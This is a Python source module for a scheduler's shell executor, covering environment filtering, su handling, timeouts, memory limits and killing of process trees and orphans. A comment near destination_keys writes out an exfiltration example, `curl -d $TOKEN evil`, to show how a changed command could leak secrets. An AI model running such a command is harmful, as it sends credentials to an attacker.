"""The `shell` executor: run a command on the agent's host, as Dkron's built-in shell plugin.

Beyond Dkron, a run never leaves processes behind: the whole tree is killed on timeout, kill
or memory limit (including grandchildren that started their own session), the direct child
dies with its agent (parent-death signal), and `reap_orphans` lets a restarted agent kill what
a dead predecessor left.
"""

from __future__ import annotations

import contextlib
import ctypes
import ctypes.util
import grp
import os
import pwd
import re
import select
import signal
import subprocess
import threading
import time
import uuid
from collections.abc import Callable, Iterable, Mapping
from dataclasses import dataclass
from datetime import timedelta
from typing import Annotated, Any, ClassVar

import psutil
from pydantic import Field, field_validator

import confidential
from executors.base import (
    ExecutionContext,
    Executor,
    ExecutorConfig,
    ExecutorError,
)
from executors.values import (
    EnvMap,
    GoBool,
    GoTimeout,
    OptionalSize,
    base64_bytes,
    config_error,
    format_go_duration,
    matching,
    split_command,
)

__all__ = ["ShellConfig", "ShellExecutor", "reap_orphans"]

# Environment tags on every job process. Children inherit them, which is how the executor finds
# a run's processes after they escaped the process tree, and how `reap_orphans` finds orphans.
AGENT_NAME_ENV = "DKRON_AGENT_NAME"
AGENT_ID_ENV = "DKRON_AGENT_ID"
SPAWNER_ENV = "DKRON_SPAWNER"  # "<pid>@<start time>" of the agent process that started the run
RUN_TOKEN_ENV = "DKRON_RUN_TOKEN"  # unique per run

# A job starts with a clean environment: these variables of the agent's, the operator's
# passthrough list (ExecutionContext.env_passthrough), the job's own `env` and the DKRON_* run
# variables below. Never the rest: the agent's environment holds dkronweb's own settings
# (DKRON_SECRET_KEY, DKRON_ENCRYPTION_KEY, database and broker URLs with their passwords),
# which a job's `env` command would print into output every reader can see. Dkron appends a
# job's env to the agent's whole environment; this is a deliberate difference. "NAME*" is a
# prefix.
BASE_ENV = ("PATH", "HOME", "USER", "LOGNAME", "SHELL", "LANG", "LANGUAGE", "LC_*", "TZ", "TMPDIR")
# Never passed through, whatever the operator's list says: the product's own settings.
NEVER_PASSED = ("DKRON_", "DJANGO_", "CELERY_")

POLL_INTERVAL = 0.1  # how often cancel and timeout are checked (the contract asks for <= 0.2 s)
MEMORY_INTERVAL = 1.0  # Dkron checks the tree's RSS every second
PIPE_DRAIN_TIMEOUT = 5.0  # after a kill, how long to wait for the output pipe to close
_SU = re.compile(r"[^:\s]+(:[^:\s]+)?")


class ShellConfig(ExecutorConfig):
    """Dkron's shell keys. Values may be Dkron's strings ("true", "30s", "512MB")."""

    command: str = Field(description="Command line; split like a shell would unless `shell`.")
    shell: GoBool = Field(False, description="Run through /bin/sh -c (pipes, redirects).")
    env: EnvMap = Field(default_factory=dict, description='Extra environment, "K=V,K2=V2".')
    cwd: str = Field("", description="Working directory (default: the agent's).")
    timeout: GoTimeout = Field(None, description='Go duration, e.g. "30s".')
    mem_limit: OptionalSize = Field(None, description='RSS limit of the tree, e.g. "512MB".')
    payload: Annotated[bytes, base64_bytes("payload")] = Field(
        b"", description="Base64; decoded and written to the command's stdin."
    )
    su: Annotated[str, matching(_SU, 'su {value!r} must be "user" or "user:group"', kind="su")] = (
        Field("", description='Run as "user" or "user:group" (agent must be root).')
    )

    @field_validator("command")
    @classmethod
    def _command_not_empty(cls, value: str) -> str:
        if not value.strip():
            raise config_error("missing", "shell: Command missing")
        return value


@dataclass(frozen=True)
class _Credentials:
    uid: int
    gid: int
    groups: list[int]
    user: str
    home: str


def _resolve_su(su: str) -> _Credentials | None:
    """Look the user and group up on this host; they may exist on one agent and not another."""
    if not su:
        return None
    user, _, group = su.partition(":")
    try:
        entry = pwd.getpwuid(int(user)) if user.isdigit() else pwd.getpwnam(user)
    except (KeyError, OverflowError):
        raise ExecutorError(f"su: unknown user {user!r} on this host", retryable=False) from None
    gid = entry.pw_gid
    if group:
        try:
            gid = (grp.getgrgid(int(group)) if group.isdigit() else grp.getgrnam(group)).gr_gid
        except (KeyError, OverflowError):
            raise ExecutorError(
                f"su: unknown group {group!r} on this host", retryable=False
            ) from None
    return _Credentials(
        uid=entry.pw_uid,
        gid=gid,
        groups=os.getgrouplist(entry.pw_name, gid),
        user=entry.pw_name,
        home=entry.pw_dir,
    )


# --- parent-death signal -------------------------------------------------------------------
# Set in `preexec_fn`, i.e. in the forked child before exec. CPython warns that preexec_fn is
# unsafe with threads because the child may need a lock another thread held at fork time. This
# hook takes none: prctl is resolved here at import (no dlopen in the child), and it only calls
# prctl, getppid and kill. The alternative, exec'ing through a wrapper such as
# `setpriv --pdeathsig`, costs an extra exec per run and an external binary. CPython applies
# `user`/`group` before preexec_fn, which matters: the kernel clears the death signal on a
# uid/gid change, so it must be set after it. Linux sends the signal when the *thread* that
# forked exits, not the process; `execute` blocks in that thread until the child is gone, so
# the two coincide here.
_PR_SET_PDEATHSIG = 1
_libc_name = ctypes.util.find_library("c")
_prctl: Callable[..., int] | None = None
if _libc_name:
    with contextlib.suppress(OSError, AttributeError):
        _prctl = ctypes.CDLL(_libc_name, use_errno=True).prctl


def _death_signal_hook(parent_pid: int) -> Callable[[], None] | None:
    if _prctl is None:
        return None
    prctl = _prctl

    def hook() -> None:
        prctl(_PR_SET_PDEATHSIG, signal.SIGKILL, 0, 0, 0)
        # The parent may have died between fork and prctl; then nobody will send the signal.
        if os.getppid() != parent_pid:
            os.kill(os.getpid(), signal.SIGKILL)

    return hook


# --- agent identity for orphan reaping ------------------------------------------------------
_own_stamp: tuple[int, str] | None = None


def _spawner_stamp() -> str:
    """`pid@start-time` of this process; the start time defeats pid reuse. Cached per pid
    because a prefork pool child inherits the cache from its parent."""
    global _own_stamp
    pid = os.getpid()
    if _own_stamp is None or _own_stamp[0] != pid:
        _own_stamp = (pid, f"{pid}@{psutil.Process(pid).create_time():.2f}")
    return _own_stamp[1]


def _spawner_alive(stamp: str) -> bool:
    pid_text, _, started = stamp.partition("@")
    try:
        proc = psutil.Process(int(pid_text))
        return abs(proc.create_time() - float(started)) < 0.05 and (
            proc.status() != psutil.STATUS_ZOMBIE
        )
    except (ValueError, psutil.Error):
        return False


def _environ(proc: psutil.Process) -> dict[str, str]:
    try:
        return proc.environ()
    except (psutil.Error, OSError):
        return {}


def reap_orphans(agent_name: str | None = None) -> list[int]:
    """Kill job processes left behind by a dead agent process of this name; return their pids.

    Call when an agent starts (and, if wanted, periodically). A process is an orphan when it
    carries this agent name and the agent process that started its run is gone, which covers a
    killed agent as well as a prefork pool child that died mid-run. The direct child of a run
    has already died with its agent (parent-death signal); this catches its descendants.
    Reading other processes' environments needs the same user or root.
    """
    name = os.environ.get(AGENT_NAME_ENV, "") if agent_name is None else agent_name
    me = os.getpid()
    killed: list[int] = []
    for proc in psutil.process_iter():
        if proc.pid == me:
            continue
        env = _environ(proc)
        stamp = env.get(SPAWNER_ENV)
        if not stamp or env.get(AGENT_NAME_ENV, "") != name or _spawner_alive(stamp):
            continue
        with contextlib.suppress(psutil.Error):
            proc.kill()
            killed.append(proc.pid)
    return killed


def _tagged(token: str) -> list[psutil.Process]:
    """Processes of one run, found by environment even after they left the process tree."""
    found = []
    for proc in psutil.process_iter():
        if _environ(proc).get(RUN_TOKEN_ENV) == token:
            found.append(proc)
    return found


def _matches(name: str, patterns: Iterable[str]) -> bool:
    return any(
        name.startswith(pattern[:-1]) if pattern.endswith("*") else name == pattern
        for pattern in patterns
    )


def _inherited(environ: Mapping[str, str], patterns: Iterable[str]) -> dict[str, str]:
    """The agent's variables a job may see (BASE_ENV and the operator's passthrough list)."""
    patterns = tuple(patterns)
    return {
        name: value
        for name, value in environ.items()
        if _matches(name, patterns) and not name.startswith(NEVER_PASSED)
    }


class _Reader(threading.Thread):
    """Copies the merged stdout/stderr pipe into the sink as chunks arrive (live output)."""

    def __init__(self, fd: int, write: Callable[[bytes], None]) -> None:
        super().__init__(name="shell-output", daemon=True)
        self.fd = fd
        self.write = write
        self.eof = threading.Event()
        self.stop = threading.Event()

    def run(self) -> None:
        try:
            while not self.stop.is_set():
                ready, _, _ = select.select([self.fd], [], [], 0.2)
                if not ready:
                    continue
                data = os.read(self.fd, 65536)
                if not data:
                    break
                self.write(data)
        except OSError:
            pass
        finally:
            self.eof.set()


def _feed(stdin: Any, payload: bytes) -> None:
    # A thread, so a command that does not read its stdin cannot block the run loop.
    with contextlib.suppress(OSError):
        try:
            stdin.write(payload)
        finally:
            stdin.close()


class ShellExecutor(Executor):
    name = "shell"
    description = "Run a command on the agent's host; success is exit code 0."
    config_schema = ShellConfig
    runs_code = True
    dkron_checked_keys = frozenset({"timeout", "mem_limit"})  # Dkron's Job.Validate
    secret_keys: ClassVar[frozenset[str]] = frozenset()
    secret_entries: ClassVar[Mapping[str, str]] = {"env": confidential.ENV}
    # The code that receives the environment: a changed command could send it anywhere
    # (`curl -d $TOKEN evil`), so a kept env value needs the same command, shell and cwd.
    destination_keys: ClassVar[frozenset[str]] = frozenset({"command", "shell", "cwd"})

    def check_config(self, config: ShellConfig) -> dict[str, str]:
        if not config.shell:
            try:
                argv = split_command(config.command)
            except ValueError as exc:  # unbalanced quotes
                return {"command": f"cannot split command: {exc}"}
            if not argv:
                return {"command": "shell: Command missing"}
        return {}

    def execute(self, ctx: ExecutionContext) -> None:
        config: ShellConfig = self.config_of(ctx)
        argv = ["/bin/sh", "-c", config.command] if config.shell else split_command(config.command)
        credentials = _resolve_su(config.su)
        token = uuid.uuid4().hex
        try:
            proc = subprocess.Popen(
                argv,
                stdin=subprocess.PIPE if config.payload else subprocess.DEVNULL,
                stdout=subprocess.PIPE,
                stderr=subprocess.STDOUT,
                cwd=config.cwd or None,
                env=self._environment(ctx, config, credentials, token),
                start_new_session=True,  # own process group: one killpg reaches the tree
                preexec_fn=_death_signal_hook(os.getpid()),
                user=credentials.uid if credentials else None,
                group=credentials.gid if credentials else None,
                extra_groups=credentials.groups if credentials else None,
            )
        except OSError as exc:
            raise self._start_error(exc, argv, config) from None
        _Run(proc, ctx, config, token).wait()

    @staticmethod
    def _environment(
        ctx: ExecutionContext,
        config: ShellConfig,
        credentials: _Credentials | None,
        token: str,
    ) -> dict[str, str]:
        env = _inherited(os.environ, (*BASE_ENV, *ctx.env_passthrough))
        env.setdefault("PATH", os.defpath)
        if credentials:
            # Otherwise tools run as `nobody` would try to write to the agent user's HOME.
            env.update(USER=credentials.user, LOGNAME=credentials.user, HOME=credentials.home)
        env.update(config.env)
        env.update(ctx.param_env)  # the run's parameters win over the job's own env
        # Set last so a job cannot fake them: reaping and kill rely on the tags.
        env.update(ctx.run_env(), ENV_JOB_NAME=ctx.job_name)
        for key in (AGENT_NAME_ENV, AGENT_ID_ENV):  # the agent's identity, not the job's
            if key in os.environ:
                env[key] = os.environ[key]
            else:
                env.pop(key, None)
        env[SPAWNER_ENV] = _spawner_stamp()
        env[RUN_TOKEN_ENV] = token
        return env

    @staticmethod
    def _start_error(exc: OSError, argv: list[str], config: ShellConfig) -> ExecutorError:
        if config.cwd and exc.filename == config.cwd:
            return ExecutorError(
                f"shell: cannot change to directory {config.cwd!r}: {exc.strerror}"
            )
        if isinstance(exc, FileNotFoundError):
            return ExecutorError(f"shell: cannot run {argv[0]!r}: executable file not found")
        if isinstance(exc, PermissionError) and config.su:
            return ExecutorError(
                f"shell: cannot switch to {config.su!r}: {exc.strerror} (the agent must run as "
                "root to use su)",
                retryable=False,
            )
        return ExecutorError(f"shell: cannot run {argv[0]!r}: {exc.strerror or exc}")


class _Run:
    """One started process tree: stream its output, watch limits, kill it if they are hit."""

    def __init__(
        self, proc: subprocess.Popen[bytes], ctx: ExecutionContext, config: ShellConfig, token: str
    ) -> None:
        self.proc = proc
        self.ctx = ctx
        self.config = config
        self.token = token
        # The agent's default applies only when the job sets no timeout (as Dkron's shell), so
        # a job may run longer than it on purpose; ctx.limit caps, which is not wanted here.
        self.timeout: timedelta | None = config.timeout
        fallback = ctx.limit(None) if self.timeout is None else None
        if fallback:
            self.timeout = timedelta(seconds=fallback)
        assert proc.stdout is not None
        self.reader = _Reader(proc.stdout.fileno(), ctx.output.write)
        try:
            self.root: psutil.Process | None = psutil.Process(proc.pid)
        except psutil.Error:
            self.root = None

    def wait(self) -> None:
        """Block until the process has exited and its output pipe has closed (as Go's Wait).

        Any exception on the way out (e.g. Celery's SoftTimeLimitExceeded raised into this
        thread) kills the tree first, so no job process outlives the call.
        """
        self.reader.start()
        if self.config.payload:
            threading.Thread(
                target=_feed, args=(self.proc.stdin, self.config.payload), daemon=True
            ).start()
        try:
            failure = self._watch()
        except BaseException:
            self._kill()
            raise
        finally:
            self._close()
        if failure is not None:
            raise failure
        code = self.proc.returncode
        if code < 0:
            name = signal.strsignal(-code) or f"signal {-code}"
            raise ExecutorError(f"signal: {name.lower()}")
        if code != 0:
            raise ExecutorError(f"exit status {code}")

    def _watch(self) -> ExecutorError | None:
        started = time.monotonic()
        deadline = started + self.timeout.total_seconds() if self.timeout else None
        next_memory_check = started
        while True:
            if self.reader.eof.is_set() and self.proc.poll() is not None:
                return None
            now = time.monotonic()
            if self.ctx.cancel.is_set():
                return self._stop_for_cancel()
            if deadline is not None and now >= deadline:
                assert self.timeout is not None
                return self._stop("timeout", self._timeout_line(self.timeout), retryable=True)
            if self.config.mem_limit and now >= next_memory_check:
                next_memory_check = now + MEMORY_INTERVAL
                used = self._tree_rss()
                if used > self.config.mem_limit:
                    line = (
                        f"shell: Job '{self.config.command}' memory usage ({used} bytes) "
                        f"exceeding defined limit ({self.config.mem_limit} bytes). Job was killed"
                    )
                    return self._stop("failed", line, retryable=True)
            step = (
                POLL_INTERVAL if deadline is None else max(0.0, min(POLL_INTERVAL, deadline - now))
            )
            if self.reader.eof.is_set():
                # The pipe closed before the process exited (it closed its stdout).
                with contextlib.suppress(subprocess.TimeoutExpired):
                    self.proc.wait(timeout=step)
            else:
                self.reader.eof.wait(step)

    def _stop_for_cancel(self) -> ExecutorError:
        if self.ctx.cancel.reason == "timeout":
            # Celery's soft time limit: the job's timeout as the agent saw it.
            return self._stop("timeout", self._timeout_line(self.timeout), retryable=True)
        line = f"shell: Job '{self.config.command}' was killed on request"
        return self._stop("killed", line, retryable=False)

    def _timeout_line(self, limit: timedelta | None) -> str:
        defined = f"defined timeout {format_go_duration(limit)}" if limit else "its time limit"
        return (
            f"shell: Job '{self.config.command}' execution time exceeding {defined}. Job was killed"
        )

    def _stop(self, status: str, line: str, *, retryable: bool) -> ExecutorError:
        self._kill()
        self.reader.join(PIPE_DRAIN_TIMEOUT)
        tail = self.ctx.output.getvalue()[-1:]
        self.ctx.output.write(("\n" if tail not in (b"", b"\n") else "") + line + "\n")
        return ExecutorError(line, retryable=retryable, status=status)

    def _tree(self) -> list[psutil.Process]:
        if self.root is None:
            return []
        try:
            return [self.root, *self.root.children(recursive=True)]
        except psutil.Error:
            return []

    def _tree_rss(self) -> int:
        total = 0
        for proc in self._tree():
            with contextlib.suppress(psutil.Error):
                total += proc.memory_info().rss
        return total

    def _kill(self) -> None:
        """Kill every process of the run.

        1. Gather the tree by parentage before killing anything: once a parent dies its
           children are re-parented and can no longer be found that way.
        2. Add processes carrying this run's environment tag; they catch a double-forked
           daemon whose parent has already exited.
        3. SIGKILL the process group (while the leader is unreaped its pid cannot be reused,
           so the group id still means this run), then every gathered process by itself,
           which reaches those that called setsid. psutil refuses a process whose pid was
           reused since it was gathered.
        """
        victims: dict[int, psutil.Process] = {p.pid: p for p in self._tree()}
        for proc in _tagged(self.token):
            victims.setdefault(proc.pid, proc)
        if self.proc.returncode is None:
            with contextlib.suppress(ProcessLookupError, PermissionError):
                os.killpg(self.proc.pid, signal.SIGKILL)
        _kill_all(victims.values())

    def _close(self) -> None:
        try:
            self.proc.wait(timeout=PIPE_DRAIN_TIMEOUT)
        except subprocess.TimeoutExpired:  # pragma: no cover - uninterruptible sleep
            self._kill()
            self.proc.wait()
        self.reader.stop.set()
        self.reader.join(1.0)
        if self.proc.stdout is not None:
            self.proc.stdout.close()


def _kill_all(processes: Iterable[psutil.Process]) -> None:
    for proc in processes:
        with contextlib.suppress(psutil.Error):
            proc.kill()


def agent_processes(instance_id: str, execution_id: str | None = None) -> list[psutil.Process]:
    """Job processes started by the agent instance `instance_id` (found by environment, so
    double-forked and re-parented ones too); only those of one execution when given."""
    me = os.getpid()
    found: list[psutil.Process] = []
    for proc in psutil.process_iter():
        if proc.pid == me:
            continue
        env = _environ(proc)
        if not env.get(SPAWNER_ENV) or env.get(AGENT_ID_ENV) != instance_id:
            continue
        if execution_id is not None and env.get("DKRON_EXECUTION_ID") != execution_id:
            continue
        found.append(proc)
    return found


def kill_agent_processes(instance_id: str, execution_id: str | None = None) -> list[int]:
    """SIGKILL every job process of the agent instance (or of one of its executions), their
    process groups first; scanned twice, for a fork in between. Returns the pids killed."""
    killed: list[int] = []
    for _ in range(2):
        victims = agent_processes(instance_id, execution_id)
        if not victims:
            break
        for proc in victims:
            with contextlib.suppress(psutil.Error, OSError):
                pgid = os.getpgid(proc.pid)
                if pgid == proc.pid:  # a run's own group (start_new_session)
                    os.killpg(pgid, signal.SIGKILL)
        for proc in victims:
            with contextlib.suppress(psutil.Error):
                proc.kill()
            killed.append(proc.pid)
        time.sleep(0.05)
    return sorted(set(killed))
